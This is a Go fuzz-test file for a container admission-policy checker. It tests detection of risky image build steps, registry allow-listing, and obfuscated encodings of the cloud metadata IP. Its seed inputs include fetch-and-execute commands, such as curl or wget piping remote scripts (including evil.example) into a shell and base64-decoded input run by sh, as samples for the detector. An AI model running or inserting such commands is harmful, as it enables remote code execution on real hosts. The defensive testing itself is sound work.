package policy

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"
	"unicode"
)

// FuzzAnalyzeStep checks that any history entry is analysed without a
// panic, deterministically, and into well-formed findings.
func FuzzAnalyzeStep(f *testing.F) {
	for _, s := range []string{
		"RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
		`RUN /bin/sh -c sh -c "$(curl -fsSL https://evil.example/i.sh)" # buildkit`,
		"/bin/sh -c #(nop) ADD http://203.0.113.9/x.tgz /opt/",
		`RUN ["/bin/sh","-c","curl -s http://203.0.113.7/a | bash"]`,
		"RUN |2 A=1 B=2 /bin/sh -c echo aGk= | base64 -d | sh # buildkit",
		"RUN /bin/sh -c bash <(wget -qO- http://[2001:db8::1]:80/i) # buildkit",
	} {
		f.Add(s)
	}
	trusted := trustedForTest(f)
	f.Fuzz(func(t *testing.T, step string) {
		got := AnalyzeStep(step, trusted)
		again := AnalyzeStep(step, trusted)
		if fmt.Sprint(got) != fmt.Sprint(again) {
			t.Fatalf("AnalyzeStep(%q) not deterministic: %v then %v", step, got, again)
		}
		seen := map[string]bool{}
		for _, fd := range got {
			if fd.Kind == "" || fd.Detail == "" {
				t.Fatalf("AnalyzeStep(%q): finding without kind or detail: %+v", step, fd)
			}
			if strings.IndexFunc(fd.Host, unicode.IsSpace) >= 0 {
				t.Fatalf("AnalyzeStep(%q): host %q has white space", step, fd.Host)
			}
			if len(fd.URL) > maxURLBytes {
				t.Fatalf("AnalyzeStep(%q): URL of %d bytes", step, len(fd.URL))
			}
			key := string(fd.Kind) + "\x00" + fd.Host + "\x00" + fd.URL
			if seen[key] {
				t.Fatalf("AnalyzeStep(%q): duplicate finding %+v", step, fd)
			}
			seen[key] = true
		}
	})
}

// FuzzImageReference checks that any image string in a pod spec is
// judged without a panic, that an image outside registries.allow is
// always reported and never looked up, and that the verdict is complete.
func FuzzImageReference(f *testing.F) {
	for _, s := range []string{
		"nginx", "ghcr.io/acme/shop:1.4", "ghcr.io/acme/shop@sha256:" + strings.Repeat("a", 64),
		"169.254.169.254/x:1", "[fd00:ec2::254]:5000/x", "ghcr.io/acme/Shop::1", "localhost:5000/a/b/c:tag@sha256:00", "",
	} {
		f.Add(s)
	}
	p, err := Compile(Spec{Registries: Registries{Allow: []string{"ghcr.io/acme/*"}}})
	if err != nil {
		f.Fatal(err)
	}
	now := time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)
	f.Fuzz(func(t *testing.T, image string) {
		v := Decide(p, Facts{Now: now, Containers: []Container{{Name: "c", Kind: KindContainer, Image: image}}})
		if len(v.Images) != 1 || v.Images[0].Image != image {
			t.Fatalf("Decide(%q) = %+v, want one image verdict for it", image, v)
		}
		if !strings.HasPrefix(strings.ToLower(image), "ghcr.io/acme/") && v.Outcome != OutcomeDeny {
			t.Fatalf("Decide(%q) = %s, want deny for an image outside registries.allow", image, v.Outcome)
		}
		for _, fd := range v.Images[0].Findings {
			if fd.Rule == "" || fd.Message == "" || fd.Action == "" {
				t.Fatalf("Decide(%q): incomplete finding %+v", image, fd)
			}
		}
	})
}

// FuzzForbiddenHost checks that any host is judged without a panic, and
// that every way of writing an IPv4 address that inet_aton accepts —
// decimal, octal, hex, one to four parts, a trailing dot, a port — is
// judged as the address itself.
func FuzzForbiddenHost(f *testing.F) {
	for _, s := range []string{"169.254.169.254", "2852039166:80", "0xa9fea9fe", "0251.0376.0251.0376.", "[fe80::1%25eth0]:5000", "[64:ff9b::a9fe:a9fe]", "metadata.", "08.1.2.3", "0x"} {
		f.Add(s, uint32(0xa9fea9fe), uint8(0))
	}
	f.Fuzz(func(t *testing.T, host string, v uint32, form uint8) {
		if ForbiddenHost(host) != ForbiddenHost(host) {
			t.Fatalf("ForbiddenHost(%q) not deterministic", host)
		}
		b := [4]uint32{v >> 24, v >> 16 & 0xff, v >> 8 & 0xff, v & 0xff}
		num := func(n uint32, base uint8) string {
			switch base % 3 {
			case 1:
				return fmt.Sprintf("0%o", n)
			case 2:
				return fmt.Sprintf("0x%x", n)
			}
			return fmt.Sprint(n)
		}
		var s string
		switch form % 4 {
		case 0:
			s = num(v, form/4)
		case 1:
			s = num(b[0], form/4) + "." + num(v&0xffffff, form/12)
		case 2:
			s = num(b[0], form/4) + "." + num(b[1], form/12) + "." + num(v&0xffff, form/36)
		case 3:
			s = num(b[0], form/4) + "." + num(b[1], form/12) + "." + num(b[2], form/36) + "." + num(b[3], form/108)
		}
		if form&0x80 != 0 {
			s += ".:8443"
		}
		addr := netip.AddrFrom4([4]byte{byte(b[0]), byte(b[1]), byte(b[2]), byte(b[3])})
		if got, want := ForbiddenHost(s), ForbiddenAddr(addr); got != want {
			t.Fatalf("ForbiddenHost(%q) = %v, ForbiddenAddr(%s) = %v", s, got, addr, want)
		}
	})
}
